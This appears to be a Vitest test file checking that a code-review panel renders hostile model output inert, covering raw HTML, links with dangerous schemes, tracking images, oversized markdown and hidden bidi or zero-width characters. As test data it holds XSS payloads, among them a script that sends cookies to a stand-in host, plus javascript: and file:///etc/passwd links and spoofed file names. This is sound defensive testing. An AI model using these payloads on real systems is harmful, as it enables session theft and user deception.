/**
 * @adversarial model output, rendered the way the panel shows a review (ReviewView with the real
 * Markdown lexer): raw HTML, script, dangerous link schemes, remote images, a megabyte of text,
 * bidi controls and zero-width characters. What a user would notice: nothing runs, nothing loads,
 * no link leads anywhere but http(s), and no character hides or reorders what it sits in.
 */
import { describe, expect, it } from 'vitest';
import { renderToString } from 'preact-render-to-string';
import { parseHTML } from 'linkedom';
import { MarkdownLexerContext } from './markdown';
import { lexMarkdown } from '../markdown/lexer';
import { ReviewView } from './panel/review-view';
import { LiveReview } from './panel/live-review';
import { hasInvisible, revealInvisible } from './invisible-chars';
import type { Finding, Review } from '../model/review';

const finding = (extra: Partial<Finding> = {}): Finding => ({
  id: 'f1',
  file: 'src/a.ts',
  line: 3,
  severity: 'major',
  category: 'security',
  title: 'A finding',
  explanation: 'Why it matters.',
  quote: '',
  ...extra,
});

function review(extra: Partial<Review> = {}): Review {
  return {
    summary: 'The summary.',
    risks: [],
    changes: [],
    walkthrough: [],
    findings: [finding()],
    coverage: [{ path: 'src/a.ts', coverage: 'full' }],
    truncated: false,
    stats: { modelCalls: 1, promptTokens: 1, completionTokens: 1, elapsedMs: 1, dropped: { notInDiff: 0, ambiguous: 0, duplicate: 0, overCap: 0, belowThreshold: 0, unparseable: 0 } },
    ...extra,
  };
}

function shown(r: Review): Document {
  const html = renderToString(
    <MarkdownLexerContext.Provider value={lexMarkdown}>
      <ReviewView review={r} dismissed={new Set()} onJumpTo={() => undefined} />
    </MarkdownLexerContext.Provider>,
  );
  return parseHTML(`<!doctype html><html><body>${html}</body></html>`).document;
}

/** Elements and attributes a browser would act on: scripts, frames, images, handlers, non-http(s) links. */
function active(doc: Document): string[] {
  const out: string[] = [];
  for (const el of Array.from(doc.body.querySelectorAll('*'))) {
    if (/^(SCRIPT|IFRAME|IMG|OBJECT|EMBED|SVG|STYLE|LINK|META|FORM|VIDEO|AUDIO|SOURCE)$/.test(el.tagName)) out.push(el.tagName);
    for (const attr of Array.from(el.attributes)) {
      if (/^on/i.test(attr.name) || attr.name === 'src' || attr.name === 'srcset' || attr.name === 'srcdoc') out.push(`${el.tagName}@${attr.name}`);
    }
    const href = el.getAttribute('href');
    if (href !== null && !/^https?:\/\//.test(href)) out.push(`href ${href}`);
  }
  return out;
}

describe('hostile model output in the review view @adversarial', () => {
  it('@adversarial raw HTML in the summary shows as text and builds no element', () => {
    const doc = shown(review({ summary: 'Fine. <div style="position:fixed;inset:0">overlay</div> <b onclick="x()">bold</b>' }));
    expect(active(doc)).toEqual([]);
    expect(doc.body.textContent).toContain('<div style="position:fixed;inset:0">overlay</div>');
    expect(doc.querySelector('[style*="fixed"]')).toBeNull();
  });

  it('@adversarial a <script> in a finding explanation stays text', () => {
    const doc = shown(review({ findings: [finding({ explanation: 'See <script>fetch("https://evil.example/?c="+document.cookie)</script> here.' })] }));
    expect(active(doc)).toEqual([]);
    expect(doc.body.textContent).toContain('<script>fetch(');
  });

  for (const [scheme, href] of [
    ['javascript:', 'javascript:alert(document.domain)'],
    ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['vbscript:', 'vbscript:msgbox(1)'],
    ['file:', 'file:///etc/passwd'],
  ] as const) {
    it(`@adversarial a ${scheme} link in the risks is no link at all, its words stay`, () => {
      const doc = shown(review({ risks: [`Open [the details](${href}) now.`] }));
      expect(active(doc)).toEqual([]);
      expect(doc.querySelectorAll('a')).toHaveLength(0);
      expect(doc.body.textContent).toContain('Open the details now.');
    });
  }

  it('@adversarial a remote image becomes a link to click, so rendering requests nothing', () => {
    const doc = shown(review({ summary: 'Status: ![pixel](https://tracker.example/p.png?u=1) and <img src="https://tracker.example/i.png">' }));
    expect(active(doc)).toEqual([]);
    expect(doc.querySelectorAll('img')).toHaveLength(0);
    const links = [...doc.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(links).toEqual(['https://tracker.example/p.png?u=1']);
  });

  it('@adversarial 1 MB of Markdown renders, inert, with all of its text', () => {
    const line = 'Some **bold** words, `code`, <i>html</i> and [a link](javascript:x) again.\n\n';
    const big = line.repeat(Math.ceil((1024 * 1024) / line.length));
    const doc = shown(review({ summary: big }));
    expect(active(doc)).toEqual([]);
    expect(doc.querySelectorAll('strong').length).toBeGreaterThan(10_000);
  });

  it('@adversarial a bidi override in a file path shows as a marker, not as reversed text', () => {
    const doc = shown(review({ findings: [finding({ file: 'src/invoice\u202Egpj.exe' })], coverage: [{ path: 'src/invoice\u202Egpj.exe', coverage: 'partial', reason: 'x' }] }));
    const location = doc.querySelector('[data-testid="finding-link"]')!.textContent!;
    expect(location).toBe('src/invoice⟨U+202E⟩gpj.exe:3');
    expect(hasInvisible(doc.body.textContent!.replace(/⟨U\+[0-9A-F]{4}⟩/g, ''))).toBe(false);
    expect(doc.querySelector('[data-testid="coverage-item"] code')!.textContent).toBe('src/invoice⟨U+202E⟩gpj.exe');
  });

  it('@adversarial zero-width characters in code and suggestions are made visible', () => {
    const doc = shown(review({ findings: [finding({ explanation: 'Call `is\u200BAdmin()` here.', suggestion: 'if (user.role === "adm\u200Din") {}' })] }));
    const codes = [...doc.querySelectorAll('code')].map((c) => c.textContent);
    expect(codes).toContain('is⟨U+200B⟩Admin()');
    expect(codes).toContain('if (user.role === "adm⟨U+200D⟩in") {}');
  });

  it('@adversarial while the review streams, a bidi override in a path or title shows as a marker too', () => {
    const file = 'src/invoice\u202Egpj.exe';
    const html = renderToString(<LiveReview fileSummaries={[{ path: file, summary: 'changed' }]} findings={[finding({ file, title: 'Rename title\u202Etxt.exe' })]} />);
    const { document: doc } = parseHTML(`<!doctype html><html><body>${html}</body></html>`);
    expect(doc.querySelector('.lpr-finding-location')!.textContent).toBe('src/invoice⟨U+202E⟩gpj.exe:3');
    expect(doc.querySelector('.lpr-finding-title')!.textContent).toBe('Rename title⟨U+202E⟩txt.exe');
    expect(doc.querySelector('[data-testid="live-file"] .lpr-mono')!.textContent).toBe('src/invoice⟨U+202E⟩gpj.exe');
    expect(hasInvisible(doc.body.textContent ?? '')).toBe(false);
  });

  it('@adversarial a bidi override in a finding title is made visible', () => {
    const doc = shown(review({ findings: [finding({ title: 'Rename title\u202Etxt.exe' })] }));
    expect(doc.querySelector('.lpr-finding-title')!.textContent).toBe('Rename title⟨U+202E⟩txt.exe');
  });
});

describe('revealInvisible', () => {
  it('@adversarial marks every bidi control and zero-width character, and leaves right-to-left letters alone', () => {
    const controls = ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F', '\u061C', '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF'];
    for (const c of controls) {
      const out = revealInvisible(`a${c}b`);
      expect(out).toBe(`a⟨U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}⟩b`);
      expect(hasInvisible(out)).toBe(false);
    }
    expect(revealInvisible('שלום עולם / مرحبا')).toBe('שלום עולם / مرحبا');
    expect(hasInvisible('plain/path.ts')).toBe(false);
  });
});
